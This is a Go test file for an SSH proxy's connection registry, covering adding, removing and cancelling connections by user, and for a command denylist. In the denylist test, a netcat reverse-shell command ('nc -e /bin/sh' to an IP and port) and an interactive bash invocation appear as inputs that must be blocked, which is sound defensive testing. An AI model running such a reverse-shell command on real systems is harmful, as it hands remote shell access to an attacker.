package proxy

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sshwarden/sshwarden/internal/egress"
)

func addConn(r *Registry, user string) (uint64, context.Context) {
	ctx, cancel := context.WithCancel(context.Background())
	id := r.add(&connEntry{user: user, kind: egress.KindDynamicSOCKS, dst: "example.com:80", cancel: cancel})
	return id, ctx
}

func TestRegistryAddRemove(t *testing.T) {
	r := NewRegistry()

	id1, _ := addConn(r, "alice")
	id2, _ := addConn(r, "bob")
	assert.NotEqual(t, id1, id2)
	assert.Equal(t, 2, r.Len())

	r.remove(id1)
	assert.Equal(t, 1, r.Len())

	snaps := r.Snapshots()
	require.Len(t, snaps, 1)
	assert.Equal(t, "bob", snaps[0].User)
	assert.Equal(t, "ssh-dynamic-socks5", snaps[0].Kind)
}

func TestRegistryCancelUser(t *testing.T) {
	r := NewRegistry()

	_, aliceCtx1 := addConn(r, "alice")
	_, aliceCtx2 := addConn(r, "alice")
	_, bobCtx := addConn(r, "bob")

	killed := r.CancelUser("alice")
	assert.Equal(t, 2, killed)

	assert.Error(t, aliceCtx1.Err())
	assert.Error(t, aliceCtx2.Err())
	assert.NoError(t, bobCtx.Err())

	assert.Zero(t, r.CancelUser("nobody"))
}

func TestRegistryCancelAll(t *testing.T) {
	r := NewRegistry()

	_, c1 := addConn(r, "alice")
	_, c2 := addConn(r, "bob")

	r.CancelAll()
	assert.Error(t, c1.Err())
	assert.Error(t, c2.Err())
}

func TestExecDenylist(t *testing.T) {
	deny := defaultExecDenylist

	assert.True(t, matchesDenylist("bash", deny))
	assert.True(t, matchesDenylist("/bin/bash -i", deny))
	assert.True(t, matchesDenylist("nc -e /bin/sh 10.0.0.1 4444", deny))
	assert.True(t, matchesDenylist("scp -t /tmp", deny))

	assert.False(t, matchesDenylist("", deny))
	assert.False(t, matchesDenylist("ls -la", deny))
	assert.False(t, matchesDenylist("bashful", deny))
}
